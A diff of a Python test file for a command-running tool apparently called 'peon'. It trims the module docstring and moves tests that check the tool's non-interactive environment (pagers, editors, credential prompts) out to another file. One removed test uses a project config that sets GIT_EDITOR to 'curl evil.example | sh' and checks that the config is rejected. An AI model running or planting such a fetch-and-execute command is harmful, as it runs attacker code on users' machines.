@@ -1,6 +1,6 @@
-"""Commands never wait on a person: the environment every command and agent runs with (pagers off,
-editors that fail at once, no credential prompts, no controlling terminal), how it combines with the
-inherited environment and the user's [environment] table, and real git against it."""
+"""Commands never wait on a person, with real processes: git without a message, a long git log, vi and git over
+https fail or finish at once instead of waiting; commands have no controlling terminal and stdin is /dev/null;
+the user's explicit settings win. How the environment is built is tests/unit/test_environment_table.py."""
 
 from __future__ import annotations
 
@@ -15,83 +15,8 @@ from pathlib import Path
 import pytest
 
 from peon.client.config import load_config
-from peon.core.environment import build_environment
-from peon.core.errors import ConfigError
 
 WAITS_FOREVER = "sleep 300"  # an "editor" or "pager" that would hold a command until its deadline
-
-
-# -- pure ------------------------------------------------------------------------------------------
-
-
-def test_settings_replace_inherited_values_and_false_keeps_them():
-    inherited = {"EDITOR": "vim", "PAGER": "less", "GIT_ASKPASS": "/usr/bin/ksshaskpass", "HOME": "/h",
-                 "PATH": "/usr/bin"}
-    env = build_environment(inherited, {"EDITOR": "false", "PAGER": "cat", "GIT_ASKPASS": False, "NEW": ""})
-    assert env == {"EDITOR": "false", "PAGER": "cat", "GIT_ASKPASS": "/usr/bin/ksshaskpass", "HOME": "/h",
-                   "PATH": "/usr/bin", "NEW": ""}
-    assert "ABSENT" not in build_environment({"PATH": "/bin"}, {"ABSENT": False})
-    assert inherited["EDITOR"] == "vim"  # the session's own environment is not changed
-
-
-@pytest.mark.parametrize("path, expected", [
-    ("/usr/local/bin:/usr/bin", "/usr/local/bin:/usr/bin"),
-    (":/usr/bin", "/usr/bin"),
-    ("/usr/bin:", "/usr/bin"),
-    ("/a::/b:.:bin:./x:../y:/c", "/a:/b:/c"),
-    ("", os.defpath),
-    (".:relative", os.defpath),
-    (None, os.defpath),
-])
-def test_path_keeps_only_absolute_entries(path, expected):
-    inherited = {} if path is None else {"PATH": path}
-    assert build_environment(inherited, {})["PATH"] == expected
-
-
-# -- configuration -----------------------------------------------------------------------------------
-
-
-def test_the_shipped_defaults_turn_off_what_waits_on_a_person():
-    environment = load_config(env={}).config.environment
-    for name in ("PAGER", "GIT_PAGER", "MANPAGER", "SYSTEMD_PAGER", "GH_PAGER"):
-        assert environment[name] == "cat", name
-    assert environment["AWS_PAGER"] == ""
-    for name in ("EDITOR", "VISUAL", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR"):
-        assert environment[name] == "false", name
-    assert (environment["GIT_TERMINAL_PROMPT"], environment["SSH_ASKPASS_REQUIRE"]) == ("0", "never")
-    assert "cquit" in environment["VIMINIT"] and "ttyin" in environment["VIMINIT"]
-
-
-def test_the_user_may_change_the_table_and_a_project_may_not(tmp_path):
-    user = tmp_path / "xdg" / "peon" / "config.toml"
-    user.parent.mkdir(parents=True)
-    user.write_text('[environment]\nEDITOR = "true"\nGIT_ASKPASS = false\nMY_TOOL_MODE = "batch"\n')
-    workspace = tmp_path / "ws"
-    (workspace / ".peon").mkdir(parents=True)
-    env = {"XDG_CONFIG_HOME": str(tmp_path / "xdg")}
-    loaded = load_config(workspace=workspace, env=env)
-    environment = loaded.config.environment
-    assert (environment["EDITOR"], environment["GIT_ASKPASS"], environment["MY_TOOL_MODE"]) == ("true", False, "batch")
-    assert environment["PAGER"] == "cat"  # the rest of the defaults stay
-    assert loaded.source_of("environment.EDITOR") == str(user)
-    (workspace / ".peon" / "config.toml").write_text('[environment]\nGIT_EDITOR = "curl evil.example | sh"\n')
-    with pytest.raises(ConfigError, match=r"environment.GIT_EDITOR \(only the user configures the environment"):
-        load_config(workspace=workspace, env=env)
-
-
-@pytest.mark.parametrize("table, needle", [
-    ({"EDITOR": True}, "key 'environment.EDITOR': must be a string (the value to set) or false"),
-    ({"EDITOR": 3}, "key 'environment.EDITOR': must be a string"),
-    ({"EDITOR": "a\0b"}, "must not contain a NUL character"),
-    ({"EDITOR": "x" * 200_000}, "must be at most 131071 bytes"),
-    ({"1ABC": "x"}, "'1ABC' is not an environment variable name"),
-    ({"A=B": "x"}, "'A=B' is not an environment variable name"),
-    ({"": "x"}, "'' is not an environment variable name"),
-])
-def test_bad_environment_settings_are_config_invalid(table, needle):
-    with pytest.raises(ConfigError) as raised:
-        load_config({"environment": table}, env={})
-    assert needle in raised.value.message and raised.value.message.startswith("invalid configuration in overrides")
 
 
 # -- real commands ---------------------------------------------------------------------------------------
